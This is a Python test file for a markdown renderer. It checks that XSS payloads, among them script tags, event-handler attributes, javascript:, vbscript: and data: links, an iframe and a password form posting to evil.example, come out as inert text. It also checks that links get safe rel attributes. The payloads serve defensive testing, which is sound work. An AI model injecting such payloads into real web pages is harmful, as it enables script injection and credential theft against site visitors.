from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trivium.studio.markdown import MAX_CHARACTERS, markdown

ATTACKS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](https://tracker.example/pixel.png)",
    '<a href="https://x" onclick="alert(1)">x</a>',
    "<style>*{display:none}</style>",
    '<iframe src="https://evil.example"></iframe>',
    "<svg onload=alert(1)>",
    '"><form action="https://evil.example"><input name=password>',
    "[x](vbscript:msgbox(1))",
    "<div style='position:fixed;inset:0'>",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_attack_in_a_text_becomes_a_tag_that_acts(attack: str) -> None:
    made = str(markdown(f"before {attack} after"))
    tags = re.findall(r"<[^>]*>", made)
    assert {re.sub(r"\W*(\w+).*", r"\1", tag) for tag in tags} <= {"p", "a"}, made
    for tag in tags:
        assert not re.search(r"javascript:|vbscript:|data:|\son\w+=|style=", tag), tag


def test_emphasis_lists_tables_and_code_are_shown() -> None:
    made = str(markdown("**a** *b*\n\n- one\n- two\n\n| x |\n|---|\n| y |\n\n`c`"))
    for tag in ("<strong>a</strong>", "<em>b</em>", "<li>one</li>", "<td>y</td>", "<code>c</code>"):
        assert tag in made


def test_a_link_goes_out_without_a_word_about_where_it_came_from() -> None:
    assert 'rel="noopener noreferrer nofollow"' in str(markdown("[a](https://example.org)"))


def test_a_text_too_long_to_parse_is_shown_as_it_is() -> None:
    assert str(markdown("<b>" + "x" * MAX_CHARACTERS)).startswith('<pre tabindex="0">&lt;b&gt;x')


@given(st.text(max_size=200))
def test_no_text_at_all_makes_a_script_an_image_or_a_handler(text: str) -> None:
    made = str(markdown(text)).lower()
    for forbidden in ("<script", "<img", "<iframe", "<style", "<form", "<svg", "<object"):
        assert forbidden not in made
